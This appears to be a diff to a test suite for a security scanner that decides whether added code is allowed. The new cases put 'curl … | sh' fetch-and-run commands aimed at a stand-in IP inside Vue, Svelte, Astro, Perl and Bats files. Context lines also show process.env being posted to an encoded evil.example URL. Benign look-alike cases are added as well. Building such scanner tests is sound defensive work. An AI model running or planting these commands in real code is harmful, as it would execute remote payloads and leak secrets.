@@ -281,6 +281,27 @@ describe('scanned languages: what the added code reaches besides processes (fift
       "import runpy\nrunpy.run_path('/tmp/x.py')\n",
     ],
     [
+      'a Vue component whose script fetches and runs',
+      'src/components/Banner.vue',
+      "<template><p>hi</p></template>\n<script setup>\nimport { execSync } from 'node:child_process';\nexecSync('curl -s http://203.0.113.7/x | sh');\n</script>\n",
+    ],
+    [
+      'a Svelte component whose script fetches and runs',
+      'src/lib/Banner.svelte',
+      "<script>\nimport { execSync } from 'node:child_process';\nexecSync('curl -s http://203.0.113.7/x | sh');\n</script>\n<p>hi</p>\n",
+    ],
+    [
+      'Astro front matter that fetches and runs',
+      'src/pages/index.astro',
+      "---\nimport { execSync } from 'node:child_process';\nexecSync('curl -s http://203.0.113.7/x | sh');\n---\n<h1>hi</h1>\n",
+    ],
+    ['a Perl test that fetches and runs', 't/basic.t', "system('curl -s http://203.0.113.7/x | sh');\n"],
+    [
+      'a Bats test that fetches and runs',
+      'test/app.bats',
+      "@test 'x' {\n  curl -s http://203.0.113.7/x | sh\n}\n",
+    ],
+    [
       'app code posting the environment to a decoded URL',
       'src/telemetry.ts',
       "await fetch(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv'), { method: 'POST', body: JSON.stringify(process.env) });\n",
@@ -320,6 +341,17 @@ describe('scanned languages: what the added code reaches besides processes (fift
       'app/codec.py',
       "import importlib\njson = importlib.import_module('json')\n",
     ],
+    [
+      'a Vue component with ordinary script and markup naming a shell',
+      'src/components/Help.vue',
+      '<template><code>curl -s https://example.com/install.sh | sh</code></template>\n<script setup>\nconst n = ref(0);\n</script>\n',
+    ],
+    [
+      'a Bats test running the project`s script',
+      'test/app.bats',
+      '@test \'greets\' {\n  run ./bin/greet\n  [ "$status" -eq 0 ]\n}\n',
+    ],
+    ['a Perl test of the module', 't/basic.t', "use Test::More;\nuse_ok('App');\ndone_testing();\n"],
   ])('%s stays allowed', async (_name, file, text) => {
     const d = await write(file, text);
     expect(d.decision.verdict, d.decision.reason).toBe('allow');
